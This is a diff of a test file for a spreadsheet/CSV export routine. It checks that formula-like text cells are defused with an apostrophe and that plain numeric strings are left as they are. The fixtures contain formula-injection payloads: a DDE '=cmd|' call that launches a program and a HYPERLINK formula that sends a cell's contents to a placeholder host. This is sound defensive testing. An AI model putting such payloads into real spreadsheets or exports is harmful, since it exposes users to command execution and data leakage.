@@ -111,16 +111,46 @@ describe("export tables in a spreadsheet", () => {
 
   it("defuses text cells that start like a formula; numbers and JSON Lines are untouched", () => {
     expect(tableToCsv(measurements as never).split("\r\n")[1]).toBe(
-      `veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,-0.5,'+units,"'=HYPERLINK(""https://example.invalid/?d=""&A1,""open"")"`,
+      `veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,-0.5,'+units,"'=HYPERLINK(""https://example.invalid/?d=""&A1,""open"")"`,
     );
-    expect(tableToCsv(perRound as never).split("\r\n")[1]).toBe("veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,1,-1.0,'@SUM(A1:A9)");
+    expect(tableToCsv(perRound as never).split("\r\n")[1]).toBe("veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,1,-1.0,'@SUM(A1:A9)");
     expect(tableToCsv(perAgent as never).split("\r\n").slice(1, 3)).toEqual([
-      "veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,'-2+3,1.0,'\tleading tab",
-      `veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,a=b,1.0,"'\rcarriage"`,
+      "veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,'-2+3,1.0,'\tleading tab",
+      `veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,a=b,1.0,"'\rcarriage"`,
     ]);
     expect(tableToJsonl(perAgent as never).split("\n")[0]).toBe(
       '{"scenario":"veyru","run_id":"=cmd|\' /C calc\'!A0","seed":"-7","run_dir":"runs/x","metric_name":"round_success","agent_id":"-2+3","value":1.0,"note":"\\tleading tab"}',
     );
+  });
+});
+
+describe("export tables in a spreadsheet: text that is a number", () => {
+  // a plain number cannot run anything, and an apostrophe would change what pandas reads
+  const NUMERIC = report("sim-1", "veyru", [
+    {
+      metric_name: "m",
+      score: 1,
+      score_unit: "u",
+      summary: "-1",
+      per_round: [],
+      per_agent: [
+        { agent_id: "-3", value: -3, note: "+2" },
+        { agent_id: "-1.5e-3", value: 0, note: "-.5" },
+        { agent_id: "-2+3", value: 0, note: "-" },
+        { agent_id: "+1 ", value: 0, note: "-1E+5" },
+      ],
+    },
+  ]);
+  const [measurements, , perAgent] = exportTables([{ runDir: "r", report: NUMERIC, seed: "-7" }]);
+
+  it("keeps text cells that are plain numbers as they are, and still defuses the rest", () => {
+    expect(tableToCsv(measurements as never).split("\r\n")[1]).toBe("veyru,sim-1,-7,r,m,1.0,u,-1");
+    expect(tableToCsv(perAgent as never).split("\r\n").slice(1, 5)).toEqual([
+      "veyru,sim-1,-7,r,m,-3,-3.0,+2",
+      "veyru,sim-1,-7,r,m,-1.5e-3,0.0,-.5",
+      "veyru,sim-1,-7,r,m,'-2+3,0.0,'-",
+      "veyru,sim-1,-7,r,m,'+1 ,0.0,-1E+5",
+    ]);
   });
 });
 
